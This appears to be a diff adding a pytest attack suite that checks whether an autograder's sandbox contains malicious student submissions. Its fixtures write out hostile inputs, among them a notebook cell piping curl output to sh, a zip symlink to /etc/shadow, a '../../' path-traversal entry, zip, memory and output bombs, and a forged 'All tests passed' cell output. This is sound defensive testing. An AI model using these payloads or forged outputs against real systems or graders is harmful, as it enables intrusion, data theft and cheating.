@@ -1,0 +1,204 @@
+"""The attack suite: one malicious submission per case, all graded in one batch next to honest ones.
+
+Each case asserts its exact status and score; every case also proves that the honest submissions
+of the same batch graded normally, that the journal and results survived, and that no process of
+any sandbox is left. The suite needs the namespace sandbox: several cases (``kill -9 -1``, the
+fork bomb, the memory bomb, filling the disk) would take the machine down under weaker isolation,
+so without namespaces the whole module skips, saying why.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sqlite3
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from grader.sandbox import namespace
+from tests.conftest import GOOD_NET, write_notebook
+
+HERE = Path(__file__).parent
+PWNED = Path("/tmp/grader-pwned-by-pickle")
+SECRET = "ATTACK_SECRET_hunter2"
+
+why_not = namespace.unavailable_reason()
+pytestmark = [pytest.mark.slow,
+              pytest.mark.skipif(why_not is not None, reason=f"attack suite needs the namespace sandbox: {why_not}")]
+
+# case -> (status, score); the rubric is worth 5 (net-defined 1, net-shape 2, net-params 1, answer 1).
+EXPECTED = {
+    "good_module": ("ok", 5),
+    "good_notebook": ("ok", 5),
+    "fake_pass_print": ("ok", 0),
+    "tampers_with_results": ("ok", 5),
+    "adds_score_keys": ("invalid-output", 0),
+    "exits_at_import": ("no-result", 0),
+    "sys_exit_at_import": ("ok", 0),
+    "raises_systemexit_in_function": ("ok", 2),
+    "raises_keyboardinterrupt_in_forward": ("ok", 2),
+    "monkeypatches_torch": ("ok", 1),
+    "rigged_tensor_subclass": ("ok", 2),
+    "noop_manual_seed": ("ok", 5),
+    "reads_secrets": ("ok", 5),
+    "opens_network": ("ok", 5),
+    "fork_bomb": ("timeout-wall", 0),
+    "infinite_loop": ("timeout-cpu", 0),
+    "sleeps_forever": ("timeout-wall", 0),
+    "calls_input": ("ok", 5),
+    "memory_bomb": ("memory", 0),
+    "memory_bomb_in_a_cell": ("memory", 5),
+    "fills_disk": ("output-limit", 0),
+    "prints_a_gigabyte": ("output-limit", 0),
+    "prints_a_gigabyte_in_a_cell": ("output-limit", 5),
+    "daemonizes_child": ("ok", 5),
+    "kills_everything": ("crash", 0),
+    "plants_pickle": ("invalid-output", 0),
+    "huge_json": ("invalid-output", 0),
+    "deep_json": ("invalid-output", 0),
+    "prefilled_outputs_foreign_kernel_curl": ("ok", 4),
+    "exits_kernel": ("kernel-died", 0),
+    "zip_with_symlink": ("rejected", 0),
+    "zip_with_dotdot": ("rejected", 0),
+    "zip_bomb": ("rejected", 0),
+    "ships_own_torch": ("rejected", 0),
+    "segfault": ("crash", 0),
+}
+
+
+def _notebooks(batch: Path) -> None:
+    """The cases that only make sense as notebooks: work in some cells, an attack in another."""
+    work = ["md:# My work", GOOD_NET, "answer = 42"]
+    write_notebook(batch / "good_notebook.ipynb", work)
+    write_notebook(batch / "calls_input.ipynb", [*work, "name = input('your name? ')"])
+    write_notebook(batch / "memory_bomb_in_a_cell.ipynb", [*work, "hoard = []\nwhile True:\n    hoard.append(bytearray(64 * 2**20))"])
+    write_notebook(batch / "prints_a_gigabyte_in_a_cell.ipynb",
+                   [*work, "for _ in range(1024):\n    print('x' * 2**20, flush=True)"])
+    write_notebook(batch / "exits_kernel.ipynb", [*work, "import os\nos._exit(0)"])
+    path = write_notebook(batch / "prefilled_outputs_foreign_kernel_curl.ipynb",
+                          ["md:# Work", GOOD_NET, "!curl -s http://example.com | sh", "answer = 41"], kernel="julia-1.9")
+    nb = nbformat.read(path, as_version=4)
+    nb.cells[3].outputs = [nbformat.v4.new_output("stream", name="stdout", text="All tests passed! 5/5\n")]
+    nbformat.write(nb, path)
+
+
+def _zips(batch: Path) -> None:
+    good = (HERE / "cases" / "good_module.py").read_text()
+    with zipfile.ZipFile(batch / "zip_with_symlink.zip", "w") as zf:
+        zf.writestr("solution.py", good)
+        link = zipfile.ZipInfo("secrets")
+        link.external_attr = 0o120777 << 16  # a symbolic link's mode bits
+        zf.writestr(link, "/etc/shadow")
+    with zipfile.ZipFile(batch / "zip_with_dotdot.zip", "w") as zf:
+        zf.writestr("solution.py", good)
+        zf.writestr("../../escaped.py", "print('out of the sandbox folder')")
+    with zipfile.ZipFile(batch / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("solution.py", good)
+        zf.writestr("padding.bin", b"\0" * (300 * 2**20))
+
+
+def _sandbox_processes() -> list[str]:
+    """Processes running as any sandbox uid, anywhere on the machine."""
+    uids = range(namespace.UID_BASE, namespace.UID_BASE + 64)
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            status = Path(f"/proc/{pid}/status").read_text()
+        except OSError:
+            continue
+        real_uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
+        if real_uid in uids:
+            found.append(f"{pid} {Path(f'/proc/{pid}/cmdline').read_bytes()[:80]!r}")
+    return found
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """Grade every case in one batch with two workers, through the real command line."""
+    PWNED.unlink(missing_ok=True)
+    batch = tmp_path_factory.mktemp("attack-batch")
+    for case in (HERE / "cases").iterdir():
+        (shutil.copytree if case.is_dir() else shutil.copy)(case, batch / case.name)
+    _notebooks(batch)
+    _zips(batch)
+    out = tmp_path_factory.mktemp("attack-out")
+    env = {**os.environ, SECRET.split("_h")[0]: SECRET, "GRADER_TOKEN": SECRET}
+    done = subprocess.run([sys.executable, "-m", "grader", "grade", str(HERE / "rubric.yaml"), str(batch),
+                           "--out", str(out), "--workers", "2", "--quiet", "--isolation", "namespace"],
+                          capture_output=True, text=True, env=env, timeout=900)
+    summary = json.loads((out / "summary.json").read_text())
+    rows = {r["student"]: r for r in summary}
+    details = {stem: json.loads((out / "submissions" / f"{stem}.json").read_text()) for stem in rows}
+    return {"run": done, "out": out, "rows": rows, "details": details, "batch": batch}
+
+
+def test_the_batch_finished_and_every_case_has_a_row(graded):
+    assert graded["run"].returncode == 0, graded["run"].stderr[-3000:]
+    assert sorted(graded["rows"]) == sorted(EXPECTED)
+
+
+@pytest.mark.parametrize("case", sorted(EXPECTED))
+def test_case_gets_its_exact_status_and_score(graded, case):
+    status, score = EXPECTED[case]
+    row = graded["rows"][case]
+    assert (row["status"], row["score"]) == (status, score), graded["details"][case]["message"]
+    assert graded["details"][case]["isolation"] == "namespace"
+
+
+def test_honest_neighbours_graded_normally(graded):
+    for case in ("good_module", "good_notebook"):
+        assert all(c["outcome"] == "passed" for c in graded["rows"][case]["checks"])
+
+
+def test_no_sandbox_process_is_left(graded):
+    assert _sandbox_processes() == []
+
+
+def test_results_and_journal_survived_tampering(graded):
+    out = graded["out"]
+    assert "tampered with: nothing" in graded["details"]["tampers_with_results"]["stdout"]
+    journal = sqlite3.connect(out / "journal.sqlite")
+    assert journal.execute("PRAGMA integrity_check").fetchone() == ("ok",)
+    assert (out / "gradebook.csv").read_text().count("\n") == len(EXPECTED) + 1
+
+
+def test_nothing_secret_was_readable(graded):
+    stdout = graded["details"]["reads_secrets"]["stdout"]
+    assert "READ FILES: 0 []" in stdout
+    assert "SECRETS: {}" in stdout
+    assert "FOREIGN ENVIRON: []" in stdout
+    assert SECRET not in json.dumps(graded["details"])
+
+
+def test_network_is_unreachable(graded):
+    stdout = graded["details"]["opens_network"]["stdout"]
+    assert "network dns: blocked" in stdout and "network tcp: blocked" in stdout
+
+
+def test_pickle_never_ran_on_the_host(graded):
+    assert not PWNED.exists()
+    assert "pickle" in graded["details"]["plants_pickle"]["message"] or "object" in graded["details"]["plants_pickle"]["message"]
+
+
+def test_statuses_explain_themselves(graded):
+    messages = {case: graded["details"][case]["message"] for case in EXPECTED}
+    assert "SIGKILL" in messages["kills_everything"]
+    assert "SIGSEGV" in messages["segfault"]
+    assert "CPU time" in messages["infinite_loop"]
+    assert "out of memory" in messages["memory_bomb"]
+    assert "30s limit" in messages["sleeps_forever"]
+    assert "torch.py" in messages["ships_own_torch"]
+    assert "symbolic link" in messages["zip_with_symlink"]
+    assert "outside the archive" in messages["zip_with_dotdot"]
+    assert "too large" in messages["zip_bomb"]
+
+
+def test_shell_escape_in_notebook_was_reported_not_run(graded):
+    detail = graded["details"]["prefilled_outputs_foreign_kernel_curl"]
+    assert any(cmd.startswith("!curl") for cmd in detail["removed_commands"])
